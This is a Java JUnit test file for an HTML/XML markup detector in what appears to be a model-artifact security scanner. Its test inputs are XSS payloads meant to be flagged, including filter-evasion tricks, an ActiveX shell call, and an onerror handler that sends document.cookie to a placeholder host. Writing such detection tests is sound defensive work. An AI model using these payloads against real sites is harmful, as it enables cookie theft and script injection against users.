package io.lazaretto.artifact.markup;

import static io.lazaretto.artifact.inspect.Detectors.FORMAT;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;
import static org.assertj.core.api.Assertions.assertThat;

import io.lazaretto.artifact.report.Outcome;
import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlRulesTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "<script>let a = 1;</script>~html.script",
                "<SCRIPT/x src=//x/a.js></SCRIPT>~html.script",
                "<body onload=go()>~html.event-handler",
                "<img src=x OnError='a()'>~html.event-handler",
                "<a href=\"java&#115;cript:alert(1)\">a</a>~html.script-address",
                "<a href=' java\tscript:alert(1)'>a</a>~html.script-address",
                "<form action='vbscript:x'>~html.script-address",
                "<iframe src=http://x></iframe>~html.frame",
                "<object data=x.swf></object>~html.frame",
                "<meta content='0;url=http://x' http-equiv=\"Refresh\">~html.refresh",
                "<base href=http://x/>~html.base",
                "<!-- a --><p title='<'><embed src=x>~html.frame",
                "<!-- a --!><img src=x onerror=a()>-->~html.event-handler",
                "<!--><img src=x onerror=a()>-->~html.event-handler",
                "<!--->\u0020<img src=x onerror=a()>-->~html.event-handler",
                "<noscript><!-- </noscript><img src=x onerror=a()> -->~html.event-handler",
                "<noscript><meta http-equiv=refresh content='0;url=x'></noscript>~html.refresh",
                "<noscript><p title=\"</noscript><!-- \"><img src=x> -->~html.ambiguous",
                "<noframes><!-- </noframes><img src=x onerror=a()> -->~html.event-handler",
                "<svg><style><img src=x onerror=a()></style></svg>~html.event-handler",
                "<svg><title><a href='javascript:a()'></a></title></svg>~html.script-address",
                "<math><style><!-- </style><img src=x> --></math>~html.ambiguous",
                "<svg><desc></svg></desc><style><img src=x onerror=a()></style>~html.event-handler",
                "<svg><![CDATA[ > <!-- ]]><img src=x onerror=a()> -->~html.event-handler",
                "<svg><p><![CDATA[ > <img src=x onerror=a()> ]]>~html.event-handler",
                "</p title='><!--'><img src=x onerror=a()> -->~html.event-handler",
                "<\u00e9 title='<img src=x onerror=a()>'>~html.event-handler",
                "<style></styleX><!-- </style><img src=x onerror=a()> -->~html.event-handler",
                "<style></\u017ftyle><!-- </style><img src=x onerror=a()> -->~html.event-handler",
                "<style></style/><img src=x onerror=a()>~html.event-handler",
                "<script type=text/plain><!--<script></script><p title='</script><img onerror=1>'>~html.ambiguous",
                "<a href='java&#0000000000000115;cript:a()'>a</a>~html.script-address",
                "<iframe><!-- </iframe><img src=x onerror=a()> -->~html.event-handler"
            })
    void whatABrowserActsOnIsSuspect(String html, String rule) {
        page(html).reports(FORMAT, Outcome.SUSPECT, rule);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>eval( atob('eA==') )</script>",
                "<script>new ActiveXObject('WScript.Shell').Run('x')</script>",
                "<img src=x onerror='fetch(\"http://x/\" + document.cookie)'>"
            })
    void hostileScriptIsAThreat(String html) {
        page(html).reports(FORMAT, Outcome.THREAT, "html.hostile-script");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>Hello <b>world</b> &amp; all<br><img src=a.png alt='onload=x'>",
                "<script type=\"application/ld+json\">{\"a\": 1}</script>",
                "<style>a{background:url(x.png)}</style><!-- <script>x</script> -->",
                "<textarea><script>x</script></textarea>",
                "<a href='https://x/?q=javascript:1'>a</a> 1 < 2 and <3",
                "<noscript><p>Please <b>enable</b> scripts</p></noscript>",
                "<svg><title>a</title><style>a > b {}</style><path d='M0 0'/></svg><style>p{}</style><textarea>a</textarea>",
                "<svg><style><![CDATA[ a > b {} ]]></style></svg>",
                "<!-- a -- b - - > <img onerror=x> --><p title='-->'></p></p class='a>b'>",
                "<title></titles></title>",
                "<meta charset=utf-8><meta name=viewport content='width=1'>"
            })
    void ordinaryPagesStaySilent(String html) {
        page(html).staysSilent();
    }

    @Test
    void unclosedTagsEnd() {
        page("<".repeat(10_000) + "<a ".repeat(10_000) + "<script>".repeat(3)).isNotClear();
    }

    @Test
    void manyMarksWithoutAnEndAreQuick() {
        String text = ("<svg>" + "<!----><![CDATA[ > ").repeat(200_000) + "<title>".repeat(100_000);
        assertThat(page(text).inspection().reports()).noneMatch(report -> "out of time".equals(report.reason()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<html xmlns='http://www.w3.org/1999/xhtml'><body><p onclick='a()'/></body></html>",
                "<body onload='a()'/>",
                "<r xmlns:h='http://www.w3.org/1999/xhtml'><h:p onclick='a()'/></r>",
                "<html xmlns='http://www.w3.org/1999/xhtml'><head><meta http-equiv='refresh' content='0'/></head></html>",
                "<html xmlns='http://www.w3.org/1999/xhtml'><a href='java&#9;script:a()'>a</a></html>"
            })
    void pagesThatAreXmlAreJudgedToo(String xml) {
        for (String name : List.of("page.xhtml", "page.xml", "page.svg")) {
            inspecting(model(name, "<?xml version=\"1.0\"?>" + xml)).reports(FORMAT, Outcome.SUSPECT, "markup.script");
        }
    }

    @Test
    void attributesOfOtherDocumentsStaySilent() {
        inspecting(model("page.xml", "<?xml version=\"1.0\"?><net once='a' online='b'><p only='c'/></net>"))
                .isInconclusive(FORMAT, "malformed");
        inspecting(model("page.xml", "<?xml version=\"1.0\"?><list once='a' online='b'><p only='c'/></list>"))
                .staysSilent();
    }

    private static TestingModel model(String name, String text) {
        return new TestingModel()
                .with("model.safetensors", SafetensorsBuilder.clean())
                .with(name, text);
    }

    private static InspectionAssert page(String html) {
        return inspecting(model("page.html", "<!DOCTYPE html><html><head><title>t</title></head>" + html + "</html>"));
    }
}
